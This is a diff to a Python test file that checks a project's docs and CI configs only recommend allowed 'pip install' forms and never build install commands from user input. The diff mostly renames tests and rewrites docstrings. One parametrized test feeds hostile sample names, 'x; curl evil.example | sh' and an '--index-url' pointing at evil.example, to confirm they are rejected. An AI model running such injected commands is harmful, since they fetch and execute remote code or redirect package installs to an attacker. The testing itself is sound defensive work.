@@ -1,4 +1,4 @@
-"""What people are told to install is ours: from a clone, by the extras that there are, never by a name in a package index."""
+"""Installation instructions refer to this project: from a clone, with existing extras, never by a name in a package index."""
 
 import re
 import subprocess
@@ -22,9 +22,10 @@ ALLOWED = re.compile(
         extras=f"{EXTRA}(?:,{EXTRA})*"
     )
 )
-"""The clone, an extra of it, the wheel built from it, the action's own checkout, or where the user of the GitLab job says."""
+"""The clone, an extra of it, the wheel built from it, the action's checkout, or the source set by the user of the GitLab job.
+"""
 COMPOSED = {"claims/extras.py", "tests/test_extras.py"}
-"""Where the commands are made, and where they are looked for."""
+"""The module that composes the commands, and this one, which searches for them."""
 
 
 def tracked_texts() -> list[tuple[str, str]]:
@@ -39,7 +40,7 @@ def tracked_texts() -> list[tuple[str, str]]:
 
 
 def wrong_commands(text: str) -> list[str]:
-    """What follows ``pip install`` and is not an allowed form."""
+    """The arguments of ``pip install`` that are not an allowed form."""
     text = text.replace("\\", "")
     return [text[at.end() :][:60] for at in re.finditer("pip3? install", text) if not ALLOWED.match(text, at.end())]
 
@@ -62,11 +63,11 @@ def wrong_commands(text: str) -> list[str]:
         ("pip install some-model", False),
     ],
 )
-def test_commands_are_told_apart(text: str, fine: bool) -> None:
+def test_install_commands_are_recognised(text: str, fine: bool) -> None:
     assert (wrong_commands(text) == []) is fine
 
 
-def test_no_file_of_the_project_names_another_package_to_install() -> None:
+def test_no_file_suggests_installing_another_package() -> None:
     texts = tracked_texts()
     assert {"README.md", "action.yml", "ci/gitlab.yml", ".ci/run", "docs/store.md"} <= {name for name, _ in texts}
     wrong = {name: found for name, text in texts if name not in COMPOSED and (found := wrong_commands(text))}
@@ -89,14 +90,14 @@ def test_every_remedy_names_its_extra_and_an_allowed_command(extra: Extra) -> No
 
 
 @pytest.mark.parametrize("name", ["no_such_model", "x; curl evil.example | sh", "--index-url=https://evil.example x"])
-def test_no_command_is_made_from_what_somebody_wrote(name: str) -> None:
+def test_no_command_is_composed_from_input(name: str) -> None:
     with pytest.raises(PipelineError) as caught:
         load_model(name)
     assert "install " + name not in str(caught.value)
     assert "pip" not in str(caught.value)
 
 
-def test_the_gitlab_job_installs_nothing_until_it_is_said_from_where() -> None:
+def test_the_gitlab_job_requires_the_package_source() -> None:
     job = yaml.safe_load((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"))
     assert job["variables"]["CLAIMS_PACKAGE"] == ""
     (check,) = [line for line in job["claims-check"]["before_script"] if line.startswith("[")]
@@ -116,7 +117,7 @@ def test_the_distribution_has_one_name_and_one_version() -> None:
     assert [name for name in others if not name.startswith(("seeds/", "tests/")) and name != "claims/ingest/exports.py"] == []
 
 
-def test_nothing_names_the_other_project_as_what_to_install() -> None:
+def test_the_other_project_is_never_suggested_for_installation() -> None:
     wrong = re.compile(r"pypi\.org/\w+/claims\b|^\s*(?:- )?[\"']?claims(?:\[[\w,]+\])?\s*(?:==|>=|~=)", re.MULTILINE)
     named = [name for name, text in tracked_texts() if name not in COMPOSED and wrong.search(text)]
     assert named == []
